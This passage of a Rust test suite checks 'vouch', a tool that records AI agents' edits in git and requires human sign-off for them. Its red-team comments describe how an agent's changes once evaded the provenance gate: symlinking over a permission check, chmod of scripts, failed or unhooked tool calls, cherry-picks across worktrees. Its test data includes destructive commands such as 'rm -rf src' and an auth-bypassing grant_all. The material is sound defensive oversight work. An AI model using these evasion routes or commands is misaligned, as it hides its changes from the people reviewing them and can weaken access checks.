    // unstages it (`git reset`), or does something else entirely.
    for command in ["git reset -q", "true"] {
        let repo = start();
        repo.write("src/auth.py", "def f(u):\n    return u.data\n");
        repo.ok(&["add", "src/auth.py"]);
        repo.write("src/auth.py", "def f(u):\n    return u.data  # mine\n");
        agent_shell(&repo, "toolu_1", command, || {
            if command != "true" {
                repo.ok(&["reset", "-q"]);
            }
        });
        repo.ok(&["commit", "-q", "-am", "mine"]);
        assert!(attests_no_ai(&repo.note("HEAD")), "{command}: {:?}", repo.note("HEAD"));
    }
}

/// Red team: a file an agent's command wrote that is not UTF-8 (a data
/// file) is recorded whole, as it should be; but the gate then refused
/// every commit, of other files too, "refusing to decide" over that
/// record, until the file was committed. Its record is one unit over its
/// bytes, and holds no lines to look for in other files.
#[test]
fn a_binary_file_an_agent_writes_stops_no_commit_of_other_files() {
    let repo = start();
    agent_shell(&repo, "toolu_1", "printf 'ab\\xff\\xfe\\x00cd' > data.bin", || {
        std::fs::write(repo.root().join("data.bin"), b"ab\xff\xfe\x00cd").unwrap();
    });
    repo.write("src/x.py", "x = 1\n");
    repo.ok(&["add", "src/x.py"]);
    repo.ok(&["commit", "-q", "-m", "x"]);
    repo.ok(&["add", "data.bin"]);
    repo.ok(&["commit", "-q", "-m", "data"]);
    let found = failures(&repo);
    assert_eq!(found, [("unapproved-ai".to_string(), "data.bin".to_string(), String::new())].to_vec());

    // Red team, round two: lines of such a file copied into another stay
    // the agent's (its record's lines are read as the bytes they are).
    let repo = start();
    let scratch = b"# r\xe9sum\xe9 du code\n\ndef grant_all(u):\n    return True\n";
    agent_shell(&repo, "toolu_1", "printf ... > scratch.py", || {
        std::fs::write(repo.root().join("scratch.py"), scratch).unwrap();
    });
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.ok(&["add", "src/auth.py"]);
    repo.ok(&["commit", "-q", "-m", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
}

/// Red team: a person's untracked file too large for the snapshot to keep
/// (over 8 MiB) was recorded whole as the agent's after any command of
/// it (`ls`), and the person's commit of their own file needed sign-off.
/// A file the snapshot did not keep and that the command did not touch is
/// not recorded.
#[test]
fn a_persons_large_file_an_agents_command_does_not_touch_stays_theirs() {
    let repo = start();
    let rows: String = (0..300_000).map(|i| format!("insert into t values ({i});\n")).collect();
    assert!(rows.len() > 8 << 20);
    repo.write("seed.sql", &rows);
    agent_shell(&repo, "toolu_1", "ls", || {});
    repo.ok(&["add", "seed.sql"]);
    repo.ok(&["commit", "-q", "-m", "seed"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team: the hooks `vouch init --agent claude-code` installs matched
/// the file tools and the shell only, so Claude Code's `NotebookEdit` and
/// the tools of MCP servers (a filesystem server's `write_file`) fired no
/// hook, and vouch given a `NotebookEdit` payload recorded nothing: the
/// commit was noted "no AI". Both are matched, a notebook's edit is read
/// against the snapshot of the notebook, and an MCP tool's against the
/// worktree's, as a shell command's.
#[test]
fn a_notebook_edit_and_an_mcp_tools_write_are_the_agents() {
    let repo = start();
    repo.vouch_ok(&["init", "--agent", "claude-code"]);
    let settings = std::fs::read_to_string(repo.root().join(".claude/settings.json")).unwrap();
    let settings: Value = serde_json::from_str(&settings).unwrap();
    for event in ["PreToolUse", "PostToolUse"] {
        let matcher = settings["hooks"][event][0]["matcher"].as_str().unwrap();
        let matches = |tool: &str| regex_lite_full_match(matcher, tool);
        assert!(matches("NotebookEdit") && matches("mcp__filesystem__write_file") && matches("Bash"), "{matcher}");
        assert!(!matches("Read") && !matches("Grep"), "{matcher}");
    }
    let notebook = repo.root().join("src/audit.ipynb");
    let cell = |source: &str| {
        json!({ "cells": [{ "cell_type": "code", "id": "c1", "metadata": {}, "source": [source] }],
                "metadata": {}, "nbformat": 4, "nbformat_minor": 5 })
        .to_string()
    };
    std::fs::write(&notebook, cell("if not user.is_admin:\n    raise PermissionError()\n")).unwrap();
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "audit notebook"]);
    repo.ok(&["branch", "-f", "main"]);
    let input = json!({ "notebook_path": notebook, "cell_id": "c1", "new_source": "pass\n", "edit_mode": "replace" });
    repo.claude_hook("PreToolUse", "NotebookEdit", "toolu_1", input.clone());
    std::fs::write(&notebook, cell("pass\n")).unwrap();
    repo.claude_hook("PostToolUse", "NotebookEdit", "toolu_1", input);
    let input = json!({ "path": repo.root().join("src/admin.py"), "content": "def grant_all(u):\n    return True\n" });
    repo.claude_hook("PreToolUse", "mcp__filesystem__write_file", "toolu_2", input.clone());
    repo.write("src/admin.py", "def grant_all(u):\n    return True\n");
    repo.claude_hook("PostToolUse", "mcp__filesystem__write_file", "toolu_2", input);
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "notebook and admin"]);
    let found = failures(&repo);
    let paths: Vec<&str> = found.iter().map(|(_, path, _)| path.as_str()).collect();
    assert!(paths.contains(&"src/audit.ipynb") && paths.contains(&"src/admin.py"), "{found:?}");
}

/// Whether `pattern` (a matcher of Claude Code's hooks: a regular
/// expression of tool names, alternatives and `.*` only) matches all of
/// `tool`.
fn regex_lite_full_match(pattern: &str, tool: &str) -> bool {
    pattern.split('|').any(|alt| match alt.strip_suffix(".*") {
        Some(prefix) => tool.starts_with(prefix),
        None => tool == alt,
    })
}

/// Red team, round two: the agent bumped the submodule in a commit on a
/// branch of its own and merged that branch back (`--no-ff`): the merge
/// made the path one a move of HEAD "brought", and the bump was taken for
/// a teammate's. What a commit the command made moved a submodule to is
/// its own, however it reached HEAD.
#[test]
fn a_submodule_an_agent_bumps_on_its_own_branch_and_merges_needs_sign_off() {
    let (repo, _lib, second) = with_submodule();
    let command = "git checkout -b tmp && ... && git commit && git checkout feature && git merge --no-ff tmp";
    agent_shell(&repo, "toolu_1", command, || {
        repo.ok(&["checkout", "-q", "-b", "tmp"]);
        in_submodule(&repo, &["checkout", "-q", &second]);
        repo.ok(&["commit", "-q", "-am", "bump lib"]);
        repo.ok(&["checkout", "-q", "feature"]);
        in_submodule(&repo, &["checkout", "-q", "HEAD~1"]);
        repo.ok(&["merge", "-q", "--no-ff", "tmp", "-m", "merge tmp"]);
        in_submodule(&repo, &["checkout", "-q", &second]);
    });
    let found = failures(&repo);
    assert!(found.iter().any(|(rule, path, _)| rule == "unapproved-ai" && path == "deps/lib"), "{found:?}");
}

/// Red team, round two: what an agent's command stages was taken for its
/// own where the worktree did not show it as staged: a person's edit the
/// agent stages in part (`git add -p`), and the missing stage 0 of a path
/// in conflict (a person's cherry-pick stopped) read as the agent taking
/// the file out of the index. Staged text that the worktree held before
/// the command is not the command's, nor is a conflict.
#[test]
fn what_a_person_wrote_an_agent_stages_in_part_or_a_conflict_stays_theirs() {
    let repo = start();
    let mine = "def f(u):\n    # checked by hand\n    if not u.admin:\n        raise PermissionError()\n    return u.data\n# end\n";
    repo.write("src/auth.py", mine);
    // `git add -p` of the first hunk only, as the agent's command.
    let partial =
        "def f(u):\n    # checked by hand\n    if not u.admin:\n        raise PermissionError()\n    return u.data\n";
    let hunk = repo.root().join("../hunk.py");
    std::fs::write(&hunk, partial).unwrap();
    agent_shell(&repo, "toolu_1", "git add -p src/auth.py", || {
        let id = repo.ok(&["hash-object", "-w", hunk.to_str().unwrap()]);
        repo.ok(&["update-index", "--cacheinfo", &format!("100644,{},src/auth.py", id.trim())]);
    });
    repo.ok(&["commit", "-q", "-m", "mine"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));

    // A person's cherry-pick stopped on a conflict; the agent looks
    // (`git status`); the person resolves it by removing the file.
    let repo = start();
    repo.ok(&["checkout", "-q", "-b", "other", "main"]);
    repo.write("src/auth.py", "def f(u):\n    return None\n");
    repo.ok(&["commit", "-q", "-am", "other"]);
    repo.ok(&["checkout", "-q", "feature"]);
    repo.write("src/auth.py", "def f(u):\n    return 1\n");
    repo.ok(&["commit", "-q", "-am", "mine"]);
    assert_ne!(repo.git_run(&["cherry-pick", "other"]).code, 0, "a conflict");
    agent_shell(&repo, "toolu_2", "git status", || {});
    repo.ok(&["rm", "-q", "src/auth.py"]);
    repo.ok(&["-c", "core.editor=true", "cherry-pick", "--continue"]);
    let found = failures(&repo);
    assert!(found.is_empty(), "{found:?}");
}

/// Red team, round two: a person's own symbolic link (new, or pointed
/// elsewhere) before an agent's command was recorded as the agent's by any
/// command (`ls`): the snapshot kept no links, so the link was compared
/// with HEAD's version. A link the command leaves as it was is not its.
#[test]
fn a_persons_link_an_agents_command_leaves_alone_stays_theirs() {
    let repo = start();
    std::os::unix::fs::symlink("auth.py", repo.root().join("src/login.py")).unwrap();
    agent_shell(&repo, "toolu_1", "ls", || {});
    repo.ok(&["add", "src/login.py"]);
    repo.ok(&["commit", "-q", "-m", "login"]);
    assert!(attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team, round three: the copy of a command's own commit from another
/// worktree was matched by the lines it adds, so a pure removal (the
/// admin check, committed in a worktree the agent added and picked back)
/// matched nothing; and a pick the other way (the agent's commit here,
/// picked into a branch of a worktree it adds) was never noted again. A
/// copy is matched by what it changes, in whichever worktree it is.
#[test]
fn an_agents_removal_picked_from_its_worktree_or_its_commit_picked_into_one_needs_sign_off() {
    let repo = start();
    let wt = repo.root().parent().unwrap().join(format!("{}-rm", repo.root().file_name().unwrap().to_string_lossy()));
    let wt_arg = wt.display().to_string();
    agent_shell(
        &repo,
        "toolu_1",
        "git worktree add ../rm -b drop && sed -i ... && git commit && git cherry-pick drop",
        || {
            repo.ok(&["worktree", "add", "-q", &wt_arg, "-b", "drop"]);
            std::fs::write(wt.join("src/auth.py"), "def f(u):\n    return u.data\n").unwrap();
            commit_long_ago(&repo, &["-C", &wt_arg, "commit", "-qam", "drop the check"]);
            repo.ok(&["cherry-pick", "drop"]);
        },
    );
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    assert!(failures(&repo).iter().any(|(_, path, _)| path == "src/auth.py"), "{:?}", failures(&repo));
    let _ = std::fs::remove_dir_all(&wt);

    let repo = start();
    let wt = repo.root().parent().unwrap().join(format!("{}-in", repo.root().file_name().unwrap().to_string_lossy()));
    let wt_arg = wt.display().to_string();
    agent_grants_all(
        &repo,
        "toolu_2",
        "git commit -am ... && git worktree add ../in -b tmp main && git -C ../in cherry-pick feature",
        || {
            repo.ok(&["add", "-A"]);
            commit_long_ago(&repo, &["commit", "-qm", "grant_all"]);
            repo.ok(&["worktree", "add", "-q", &wt_arg, "-b", "tmp", "main"]);
            repo.ok(&["-C", &wt_arg, "cherry-pick", "feature"]);
        },
    );
    let (code, report) = repo.verify("main..tmp");
    assert_eq!(code, 1, "{report:#}");
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team, round three: what an agent's command staged (`git apply
/// --cached`) into a file the person had changed, where the snapshot did
/// not keep that file (past its 2,000 files), was compared with vouch's last
/// sight of the file, which is the version staged: nothing was recorded.
/// The worktree as it is stands in for it.
#[test]
fn what_an_agent_stages_into_a_file_the_snapshot_did_not_keep_is_its_own() {
    let repo = start();
    for i in 0..2_001 {
        repo.write(&format!("a/{i:04}.txt"), "scratch\n");
    }
    let patch = repo.root().join("../grant.diff");
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    std::fs::write(&patch, repo.ok(&["diff"])).unwrap();
    repo.write("src/auth.py", &format!("{AUTH}# mine\n"));
    agent_shell(&repo, "toolu_1", "git apply --cached ../grant.diff", || {
        repo.ok(&["apply", "--cached", patch.to_str().unwrap()]);
    });
    repo.ok(&["commit", "-q", "-m", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
}

/// Red team, round three: an agent that replaced a person's directory
/// with a link to a directory of stubs (`rm -rf src/authz && ln -s
/// ../tests/fakes src/authz`) was recorded for the link only: a path
/// through the link still opened a file, so the deletion of the person's
/// permission check was never recorded, and once the link was signed off
/// verify passed. A file under a directory that is now a link is gone, as
/// git sees it: its removal needs sign-off of its own.
#[test]
fn a_directory_an_agent_replaces_with_a_link_is_a_removal_of_its_files() {
    let repo = start();
    repo.write(
        "src/authz/perm.py",
        "def check(user):\n    if not user.is_admin:\n        raise PermissionError()\n    return True\n",
    );
    repo.write("tests/fakes/perm.py", "def check(user):\n    return True\n");
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "authz"]);
    repo.ok(&["branch", "-f", "main"]);
    agent_shell(&repo, "toolu_1", "rm -rf src/authz && ln -s ../tests/fakes src/authz", || {
        std::fs::remove_dir_all(repo.root().join("src/authz")).unwrap();
        std::os::unix::fs::symlink("../tests/fakes", repo.root().join("src/authz")).unwrap();
    });
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "authz"]);
    let (_, report) = repo.verify("main..HEAD");
    let deleted: Vec<&Value> =
        report["failures"].as_array().unwrap().iter().filter(|f| f["path"] == "src/authz/perm.py").collect();
    assert_eq!(deleted.len(), 1, "{report:#}");
    assert_eq!(deleted[0]["kind"], "deleted-file", "{report:#}");
}

/// A script a person wrote, on main.
const DEPLOY: &str = "#!/bin/sh\nset -e\nrsync -a build/ prod:/srv/app/\n";

/// Whether `path` is executable in the working tree.
fn executable(repo: &VouchRepo, path: &str) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(repo.root().join(path)).unwrap().permissions().mode() & 0o111 != 0
}

/// Set or clear the executable bit of `path` in the working tree.
fn chmod(repo: &VouchRepo, path: &str, executable: bool) {
    use std::os::unix::fs::PermissionsExt;
    let mode = if executable { 0o755 } else { 0o644 };
    std::fs::set_permissions(repo.root().join(path), std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Red team: an agent's command that made a person's script executable
/// (`chmod +x`, or `git update-index --chmod=+x` in the index alone) was
/// not recorded: the journal recorded text, and no text changed. The
/// person's commit was noted "no AI", and verify passed a script CI now
/// runs. The command's change of a file's mode is recorded as its own, and
/// verify asks for sign-off of it (`file-mode`).
#[test]
fn a_file_an_agents_command_makes_executable_needs_sign_off() {
    for (how, commits) in [("worktree", false), ("index", false), ("worktree", true)] {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        let command = match how {
            "worktree" => "chmod +x deploy.sh && git add deploy.sh",
            _ => "git update-index --chmod=+x deploy.sh",
        };
        let command = if commits { format!("{command} && git commit -qm deploy") } else { command.to_string() };
        agent_shell(&repo, "toolu_1", &command, || {
            match how {
                "worktree" => {
                    chmod(&repo, "deploy.sh", true);
                    repo.ok(&["add", "deploy.sh"]);
                }
                _ => drop(repo.ok(&["update-index", "--chmod=+x", "deploy.sh"])),
            }
            if commits {
                repo.ok(&["commit", "-q", "-m", "deploy"]);
            }
        });
        if !commits {
            repo.ok(&["commit", "-q", "-m", "make deploy.sh executable"]);
        }
        let case = format!("{how}, committed by the agent: {commits}");
        assert!(!attests_no_ai(&repo.note("HEAD")), "{case}: {:?}", repo.note("HEAD"));
        let (code, report) = repo.verify("main..HEAD");
        assert_eq!(code, 1, "{case}: {report:#}");
        let failures = report["failures"].as_array().unwrap();
        assert!(failures.iter().any(|f| f["path"] == "deploy.sh" && f["kind"] == "file-mode"), "{case}: {report:#}");
        assert_eq!(report["coverage"]["ai_mode_changes"], json!(["deploy.sh"]), "{case}: {report:#}");
    }
}

/// The pre-commit gate did not ask of an agent's change of mode what
/// verify asks once it is committed: it let the commit through, and nobody
/// could sign the change off before it was made (`vouch approve --file`
/// wanted it committed). The gate refuses it now, naming it, and a reviewer
/// signs it off before the commit; the author cannot.
#[test]
fn the_gate_refuses_an_agents_staged_chmod_until_it_is_signed_off() {
    let block = "reviewers = [\"alice@example.com\", \"dev@example.com\"]\n";
    let repo = VouchRepo::init_with(&[(".vouch.toml", block), ("deploy.sh", DEPLOY)], &[]);
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    repo.ok(&["config", "user.email", "dev@example.com"]);
    agent_shell(&repo, "toolu_1", "chmod +x deploy.sh && git add deploy.sh", || {
        chmod(&repo, "deploy.sh", true);
        repo.ok(&["add", "deploy.sh"]);
    });
    let run = repo.vouch(&["check", "--staged", "--format", "json"]);
    assert_eq!(run.code, 1, "{run:?}");
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    let modes = report["mode_changes"].as_array().unwrap_or_else(|| panic!("{report:#}"));
    assert_eq!(modes.len(), 1, "{report:#}");
    assert_eq!((modes[0]["path"].as_str(), modes[0]["to"].as_str()), (Some("deploy.sh"), Some("100755")));
    assert_eq!(modes[0]["state"], "pending", "{report:#}");
    let status: Value = serde_json::from_str(&repo.vouch(&["status", "--format", "json"]).stdout).unwrap();
    let listed = status["mode_changes"].as_array().unwrap();
    assert!(listed.iter().any(|m| m["path"] == "deploy.sh" && m["staged"] == true), "{status:#}");
    let commit = repo.git_run(&["commit", "-q", "-m", "make deploy.sh executable"]);
    assert_ne!(commit.code, 0, "the gate refuses it: {commit:?}");
    assert!(
        commit.all().contains("deploy.sh file-mode") && commit.all().contains("vouch approve --file deploy.sh"),
        "{commit:?}"
    );
    // Its author may not sign it off; a reviewer may, before the commit.
    let run = repo.vouch(&["approve", "--file", "deploy.sh", "--yes"]);
    assert_eq!(run.code, 1, "{run:?}");
    repo.ok(&["config", "user.email", "alice@example.com"]);
    let run = repo.vouch(&["approve", "--file", "deploy.sh", "--yes"]);
    assert_eq!(run.code, 0, "{run:?}");
    repo.ok(&["config", "user.email", "dev@example.com"]);
    repo.ok(&["commit", "-q", "-m", "make deploy.sh executable"]);
    let (code, report) = repo.verify("main..HEAD");
    assert_eq!(code, 0, "{report:#}");
}

#[test]
fn a_mode_a_person_changes_while_an_agent_works_stays_theirs() {
    // The person makes their script executable; the agent's command then
    // does something else, or puts the bit back as it was.
    for agent_undoes in [false, true] {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        chmod(&repo, "deploy.sh", true);
        agent_shell(&repo, "toolu_1", "ls", || {});
        if agent_undoes {
            agent_shell(&repo, "toolu_2", "chmod -x deploy.sh", || chmod(&repo, "deploy.sh", false));
            assert!(!executable(&repo, "deploy.sh"));
            chmod(&repo, "deploy.sh", true);
        }
        repo.ok(&["commit", "-q", "-am", "make deploy.sh executable"]);
        let (code, report) = repo.verify("main..HEAD");
        assert_eq!(code, 0, "undone by the agent: {agent_undoes}: {report:#}");
        assert_eq!(report["coverage"]["ai_mode_changes"], json!([]), "{report:#}");
    }
}

/// Red team: an agent's command that moved a script and made it
/// executable (`git mv deploy.sh run.sh && chmod +x run.sh`, a plain `mv`,
/// a move into another directory) changed no mode anywhere vouch looked:
/// the hook, the note and verify compared modes by path, and the new path
/// had none before. Verify passed a script CI now runs. A moved file's
/// mode is compared with the mode of the file it was moved from.
#[test]
fn an_agents_chmod_of_a_file_it_moved_needs_sign_off() {
    let cases = [
        ("git mv deploy.sh run.sh && chmod +x run.sh", "run.sh", false),
        ("mv deploy.sh run.sh && chmod +x run.sh", "run.sh", false),
        ("mkdir tools && mv deploy.sh tools/run.sh && chmod +x tools/run.sh", "tools/run.sh", false),
        ("git mv deploy.sh run.sh && chmod +x run.sh && git commit -qam run", "run.sh", true),
    ];
    for (command, to, commits) in cases {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        agent_shell(&repo, "toolu_1", command, || {
            if command.starts_with("git mv") {
                repo.ok(&["mv", "deploy.sh", to]);
            } else {
                std::fs::create_dir_all(repo.root().join(to).parent().unwrap()).unwrap();
                std::fs::rename(repo.root().join("deploy.sh"), repo.root().join(to)).unwrap();
            }
            chmod(&repo, to, true);
            if commits {
                repo.ok(&["commit", "-q", "-am", "run"]);
            }
        });
        if !commits {
            repo.ok(&["add", "-A"]);
            repo.ok(&["commit", "-q", "-m", "move the deploy script"]);
        }
        assert!(!attests_no_ai(&repo.note("HEAD")), "{command}: {:?}", repo.note("HEAD"));
        let (code, report) = repo.verify("main..HEAD");
        assert_eq!(code, 1, "{command}: {report:#}");
        let failures = report["failures"].as_array().unwrap();
        assert!(failures.iter().any(|f| f["path"] == to && f["kind"] == "file-mode"), "{command}: {report:#}");
        assert_eq!(report["coverage"]["ai_mode_changes"], json!([to]), "{command}: {report:#}");
    }
}

/// Red team, round two (rt25d A2): the agent's `chmod +x deploy.sh`,
/// committed, then a person's `git mv deploy.sh run.sh` (or the agent's
/// move and chmod, then the person's second move). The new path was
/// compared with the file the first commit holding it was moved from,
/// already executable: the agent's change of mode was judged nowhere. The
/// renames are followed back to the name BASE has.
#[test]
fn an_agents_chmod_then_a_persons_rename_needs_sign_off() {
    for (command, first, then) in [
        ("chmod +x deploy.sh", "deploy.sh", "run.sh"),
        ("git mv deploy.sh run.sh && chmod +x run.sh", "run.sh", "go.sh"),
    ] {
        let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
        repo.ok(&["checkout", "-q", "-b", "feature"]);
        agent_shell(&repo, "toolu_1", command, || {
            if first != "deploy.sh" {
                repo.ok(&["mv", "deploy.sh", first]);
            }
            chmod(&repo, first, true);
        });
        repo.ok(&["add", "-A"]);
        repo.ok(&["commit", "-q", "-m", "runnable"]);
        repo.ok(&["mv", first, then]);
        repo.ok(&["commit", "-q", "-m", "rename"]);
        let (code, report) = repo.verify("main..HEAD");
        assert_eq!(code, 1, "{command}: {report:#}");
        let failures = report["failures"].as_array().unwrap();
        assert!(failures.iter().any(|f| f["path"] == then && f["kind"] == "file-mode"), "{command}: {report:#}");
    }
}

/// The other side: a person's `chmod +x` of a file an agent moved is the
/// person's, and a new script an agent writes executable is judged by its
/// text (its lines are AI), not as a change of mode.
#[test]
fn a_moved_files_mode_a_person_sets_stays_theirs() {
    let repo = VouchRepo::init_with(&[(".vouch.toml", POLICY), ("deploy.sh", DEPLOY)], &[]);
    repo.ok(&["checkout", "-q", "-b", "feature"]);
    agent_shell(&repo, "toolu_1", "git mv deploy.sh run.sh", || drop(repo.ok(&["mv", "deploy.sh", "run.sh"])));
    chmod(&repo, "run.sh", true);
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "move the deploy script"]);
    let (code, report) = repo.verify("main..HEAD");
    assert_eq!(report["coverage"]["ai_mode_changes"], json!([]), "{report:#}");
    assert_eq!(code, 0, "{report:#}");

    agent_shell(&repo, "toolu_2", "cat > build.sh && chmod +x build.sh", || {
        repo.write("build.sh", "#!/bin/sh\nmake all\n");
        chmod(&repo, "build.sh", true);
    });
    repo.ok(&["add", "-A"]);
    repo.ok(&["commit", "-q", "-m", "build script"]);
    let (code, report) = repo.verify("main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(report["coverage"]["ai_mode_changes"], json!([]), "{report:#}");
    let failures = report["failures"].as_array().unwrap();
    assert!(failures.iter().all(|f| f["path"] == "build.sh" && f["kind"] != "file-mode"), "{report:#}");
}

/// Red team: Claude Code runs `PostToolUse` only after a tool that
/// succeeded; after one that failed it runs `PostToolUseFailure`, which
/// vouch did not install. A shell command that wrote and then failed (`sed
/// -i ... && pytest`, a test failing: ordinary work) was never recorded,
/// and the person's commit of what it wrote was noted "no AI". So was an
/// edit the tool wrote part of before it failed.
#[test]
fn what_a_tool_that_failed_wrote_is_recorded() {
    let repo = start();
    let input = json!({ "command": "cat >> src/auth.py && pytest -q" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", input.clone());
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.claude_hook("PostToolUseFailure", "Bash", "toolu_1", input);
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert_grant_all_needs_sign_off(&repo);

    // A file tool that failed part way: what it left is compared with the
    // file before it ran.
    let repo = start();
    let path = repo.root().join("src/auth.py");
    let input = json!({ "file_path": path, "old_string": "return u.data", "new_string": "return u.data\n\n\ndef grant_all(u):\n    return True" });
    repo.claude_hook("PreToolUse", "Edit", "toolu_2", input.clone());
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.claude_hook("PostToolUseFailure", "Edit", "toolu_2", input);
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
}

/// Claude Code's Stop at the end of the agent's turn (session `s-1`).
fn turn_ends(repo: &VouchRepo) {
    turn_of_ends(repo, "s-1");
}

/// Claude Code's Stop at the end of a turn of `session`.
fn turn_of_ends(repo: &VouchRepo, session: &str) {
    let payload = json!({ "session_id": session, "cwd": repo.root(), "hook_event_name": "Stop" });
    let run = repo.vouch_stdin(&["hook", "claude-code"], payload.to_string().as_bytes());
    assert_eq!(run.code, 0, "{run:?}");
}

/// Red team: a `PostToolUse` that never ran (the hook killed by its
/// timeout or the OOM killer, the session interrupted) or failed (a full
/// disk) left the call's snapshot unread: nothing was recorded, the
/// snapshot was swept a day later, and the person's commit of what the
/// command wrote was noted "no AI". A call whose record never came is
/// settled at the end of the agent's turn, or once it is older than a tool
/// call runs: what it may have changed is unrecorded (its commit gets no
/// `no-ai` note), and a commit noted "no AI" meanwhile loses that note.
#[test]
fn a_tool_call_whose_record_never_came_is_never_attested_human() {
    let call = |repo: &VouchRepo| {
        repo.claude_hook("PreToolUse", "Bash", "toolu_1", json!({ "command": "cat >> src/auth.py" }));
        repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    };
    // The turn ends before the person commits, or after.
    for commit_first in [false, true] {
        let repo = start();
        call(&repo);
        if commit_first {
            repo.ok(&["commit", "-q", "-am", "auth"]);
        }
        turn_ends(&repo);
        if !commit_first {
            repo.ok(&["commit", "-q", "-am", "auth"]);
        }
        // What the call wrote is recorded from its snapshot, as the hook
        // after it would have.
        assert_grant_all_needs_sign_off(&repo);
    }
    // No end of the turn comes (the agent died): the person commits once
    // the call is older than any tool call runs. What it changed cannot be
    // told from what the person did since: unattested, never human.
    let repo = start();
    call(&repo);
    let snapshot = repo.root().join(".git/vouch/pre/toolu_1.snap");
    let long_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(20 * 60);
    std::fs::File::options().write(true).open(&snapshot).unwrap().set_modified(long_ago).unwrap();
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
    assert!(!snapshot.exists());

    // Its record failed (the journal could not be written): the snapshot
    // stays, and the call is settled at the end of the turn.
    let repo = start();
    let path = repo.root().join("src/auth.py");
    let input = json!({ "file_path": path, "content": format!("{AUTH}{GRANT_ALL}") });
    repo.claude_hook("PreToolUse", "Write", "toolu_1", input.clone());
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    let journal = repo.root().join(".git/vouch/journal");
    let _ = std::fs::rename(&journal, repo.root().join(".git/vouch/journal-away"));
    std::fs::write(&journal, "not a directory").unwrap();
    let payload = json!({
        "session_id": "s-1",
        "cwd": repo.root(),
        "hook_event_name": "PostToolUse",
        "tool_name": "Write",
        "tool_use_id": "toolu_1",
        "tool_input": input,
    });
    let run = repo.vouch_stdin(&["hook", "claude-code"], payload.to_string().as_bytes());
    assert_ne!(run.code, 0, "{run:?}");
    assert!(repo.root().join(".git/vouch/pre/toolu_1.snap").exists(), "the snapshot stays");
    std::fs::remove_file(&journal).unwrap();
    turn_ends(&repo);
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "{:?}", repo.note("HEAD"));
}

/// Red team (rt25c A1): Claude Code runs `PreToolUse` before it asks the
/// person for permission, and a call may wait there for hours. One older
/// than 15 minutes was settled as unknown by whatever hook ran meanwhile
/// (here the person's commit of their own work) and its snapshot removed:
/// once approved, what the command wrote was never recorded, and the
/// person's commit of it carried no AI record (verify passed it without
/// `require_attestation`). The snapshot stays for its record to come.
#[test]
fn a_call_that_waits_for_permission_is_recorded_when_it_runs() {
    let repo = start();
    let input = json!({ "command": "cat >> src/auth.py" });
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", input.clone());
    let snapshot = repo.root().join(".git/vouch/pre/toolu_1.snap");
    let long_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(20 * 60);
    std::fs::File::options().write(true).open(&snapshot).unwrap().set_modified(long_ago).unwrap();
    repo.write("src/person.py", "def person_fn():\n    return 7\n");
    repo.ok(&["add", "src/person.py"]);
    repo.ok(&["commit", "-q", "-m", "mine, while the prompt waits"]);
    assert!(!attests_no_ai(&repo.note("HEAD")), "the call may have written it: {:?}", repo.note("HEAD"));
    // Approved, the command runs, and the hook after it comes.
    repo.write("src/auth.py", &format!("{AUTH}{GRANT_ALL}"));
    repo.claude_hook("PostToolUse", "Bash", "toolu_1", input);
    turn_ends(&repo);
    repo.ok(&["commit", "-q", "-am", "auth"]);
    assert_grant_all_needs_sign_off(&repo);
    // The person's commit made while it waited is not the command's.
    let (_, report) = repo.verify("HEAD~2..HEAD~1");
    let named: Vec<&Value> = report["failures"].as_array().unwrap().iter().map(|f| &f["name"]).collect();
    assert!(!named.iter().any(|n| *n == "person_fn"), "{report:#}");
}

#[test]
fn a_tool_call_denied_leaves_the_persons_edit_theirs() {
    // The person edits; the agent asks to run a command, which the person
    // denies: no hook comes after it. Their commit is theirs, attested.
    let repo = start();
    repo.write("src/auth.py", "def f(u):\n    return u.data  # mine\n");
    repo.claude_hook("PreToolUse", "Bash", "toolu_1", json!({ "command": "rm -rf src" }));
    turn_ends(&repo);
    repo.ok(&["commit", "-q", "-am", "mine"]);
